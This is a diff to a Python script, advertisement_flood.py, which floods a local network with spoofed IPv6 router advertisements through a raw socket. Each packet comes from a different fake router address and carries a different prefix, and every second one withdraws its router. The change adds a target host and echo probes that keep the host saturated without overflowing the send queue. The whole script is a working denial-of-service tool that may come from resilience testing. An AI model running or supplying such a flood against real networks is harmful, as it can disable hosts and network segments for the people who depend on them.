@@ -1,4 +1,7 @@
-"""Sends router advertisements for ever, each from another router and for another prefix: advertisement_flood.py INTERFACE."""
+"""Sends router advertisements for ever, each from another router and for another prefix: advertisement_flood.py INTERFACE HOST.
+
+After 100 of them it waits for an echo from the host, so that the host is always busy, but the interface's queue is not full.
+"""
 
 import itertools
 import socket
@@ -17,6 +20,9 @@ def checksum(source, destination, message):
 ALL_NODES = socket.inet_pton(socket.AF_INET6, 'ff02::1')
 link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
 link.bind((sys.argv[1], 0x86dd))
+echo = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+echo.connect((sys.argv[2], 7))
+echo.settimeout(1)
 for number in itertools.count():
     router = socket.inet_pton(socket.AF_INET6, 'fe80::1:%x' % (number >> 1 & 0xffff))
     # Every second advertisement says that its router leaves.
@@ -25,10 +31,13 @@ for number in itertools.count():
     message = struct.pack('>BBHBBHII', 134, 0, 0, 64, 8, lifetime, 0, 0) + prefix
     message = message[:2] + struct.pack('>H', checksum(router, ALL_NODES, message)) + message[4:]
     header = struct.pack('>IHBB', 6 << 28, len(message), 58, 255) + router + ALL_NODES
-    try:
-        link.send(bytes.fromhex('333300000001 02dd00000001 86dd') + header + message)
-    except OSError:
-        # The send queue is full.
-        continue
+    link.send(bytes.fromhex('333300000001 02dd00000001 86dd') + header + message)
+    if number % 100 == 0:
+        try:
+            echo.send(b'ready?')
+            echo.recv(100)
+        except TimeoutError:
+            # A lost echo is no reason to stop.
+            pass
     if number == 2000:
         print('flooding', flush=True)
